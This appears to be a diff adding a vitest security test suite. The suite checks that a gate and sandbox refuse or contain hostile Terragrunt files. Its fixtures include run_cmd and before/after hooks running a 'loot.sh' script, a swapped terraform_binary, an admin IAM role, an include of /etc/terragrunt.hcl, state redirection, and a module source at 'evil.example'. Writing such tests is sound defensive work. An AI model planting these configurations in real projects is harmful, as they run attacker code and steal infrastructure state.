@@ -1,0 +1,145 @@
+/** Terragrunt files, which run programs and write files before Terraform starts. */
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { type HttpBackend, startHttpBackend } from '../../support/http-backend.ts';
+import { requires } from '../../support/requirements.ts';
+import { toolOnPath } from '../../support/terraform.ts';
+import { nothingLeft } from '../../task-image/stage.ts';
+import {
+  type Attack,
+  type Battlefield,
+  battlefield,
+  type GatedAttack,
+  heldByTheSandbox,
+  refusedByTheGate,
+  withGateOpen,
+} from './attack.ts';
+import { looter, ran } from './looter.ts';
+
+const main = 'terraform {\n  backend "http" {}\n}\nresource "terraform_data" "x" {}\n';
+const opened = { state: 'succeeded', loot: ran } as const;
+const withLooter =
+  (terragrunt: string): Attack['files'] =>
+  (prey, name) => ({ 'main.tf': main, 'loot.sh': looter(name, prey), 'terragrunt.hcl': terragrunt });
+const hook = (kind: string) => `terraform {
+  ${kind} "x" {
+    commands     = ["plan"]
+    execute      = ["bash", "loot.sh"]
+    run_on_error = true
+  }
+}
+`;
+
+const gated = (address: string): readonly GatedAttack[] =>
+  (
+    [
+      {
+        name: 'run-cmd',
+        rule: 'run-cmd',
+        files: withLooter('locals {\n  x = run_cmd("--terragrunt-quiet", "bash", "loot.sh")\n}\n'),
+        opened,
+      },
+      { name: 'before-hook', row: 'RCE-41', rule: 'hook', files: withLooter(hook('before_hook')), opened },
+      { name: 'after-hook', rule: 'hook', files: withLooter(hook('after_hook')), opened },
+      {
+        name: 'generated-override',
+        rule: 'generate',
+        files: ({ foreignState }) => ({
+          'main.tf': main,
+          'terragrunt.hcl': `generate "x" {
+  path      = "zzz_override.tf"
+  if_exists = "overwrite"
+  contents  = <<EOF
+terraform {
+  backend "local" {
+    path = "${foreignState}"
+  }
+}
+EOF
+}
+`,
+        }),
+        opened: { state: 'failed', code: 'E_INIT' },
+      },
+      {
+        name: 'extra-arguments',
+        rule: 'extra-arguments',
+        files: {
+          'main.tf': main,
+          'terragrunt.hcl': `terraform {
+  extra_arguments "x" {
+    commands  = ["init"]
+    arguments = ["-backend-config=address=${address}/other"]
+  }
+}
+`,
+        },
+        // What the worker says comes last, and counts.
+        opened: { state: 'succeeded' },
+      },
+    ] satisfies GatedAttack[]
+  ).map(attack => ({ ...attack, stack: stack(address) }));
+
+const refused = (address: string): readonly Attack[] =>
+  (
+    [
+      {
+        name: 'remote-state',
+        files: {
+          'main.tf': main,
+          'terragrunt.hcl': `remote_state {\n  backend = "http"\n  config = {\n    address = "${address}/other"\n  }\n}\n`,
+        },
+      },
+      { name: 'terraform-binary', files: withLooter('terraform_binary = "./loot.sh"\n') },
+      { name: 'role', files: withLooter('iam_role = "arn:aws:iam::222222222222:role/admin"\n') },
+      { name: 'source', files: withLooter('terraform {\n  source = "git::https://evil.example/m.git"\n}\n') },
+      {
+        name: 'included-from-outside',
+        files: withLooter('include "x" {\n  path = "/etc/terragrunt.hcl"\n}\n'),
+      },
+      {
+        name: 'run-cmd-in-a-parent',
+        files: (prey: Parameters<typeof looter>[1], name: string) => ({
+          'main.tf': main,
+          'loot.sh': looter(name, prey),
+          'terragrunt.hcl': 'include "root" {\n  path = find_in_parent_folders("root.hcl")\n}\n',
+          '/root.hcl': 'inputs = {\n  x = run_cmd("bash", "loot.sh")\n}\n',
+        }),
+      },
+    ] satisfies Attack[]
+  ).map(attack => ({ ...attack, stack: stack(address) }));
+
+const stack = (address: string) => ({
+  binary: 'terragrunt',
+  backend: { type: 'http', config: { address: `${address}/{repo}` } },
+});
+
+describe.skipIf(requires('sshd', 'terraform', 'providers') || !toolOnPath('terragrunt'))(
+  'a Terragrunt file',
+  { timeout: 60_000 },
+  () => {
+    let field: Battlefield;
+    let http: HttpBackend;
+    const named = <A extends Attack>(attacks: readonly A[], name: string): A => {
+      const found = attacks.find(attack => attack.name === name);
+      if (!found) throw new Error(name);
+      return found;
+    };
+    beforeAll(async () => {
+      http = await startHttpBackend();
+      const all = gated(http.url);
+      field = await battlefield([...all, ...all.map(withGateOpen), ...refused(http.url)]);
+    });
+    afterAll(() => Promise.all([field?.stop(), http?.stop()]));
+
+    test.each([...gated(''), ...refused('')])('with $name is refused before it is read by Terragrunt', ({ name }) =>
+      refusedByTheGate(field, named([...gated(http.url), ...refused(http.url)], name)),
+    );
+
+    test.each(gated(''))('with $name gets nowhere where it is let in', async ({ name }) => {
+      await heldByTheSandbox(field, named(gated(http.url), name));
+      expect(http.requests.join('\n')).not.toContain('/other');
+    });
+
+    test('leaves nothing', () => nothingLeft(field.server));
+  },
+);
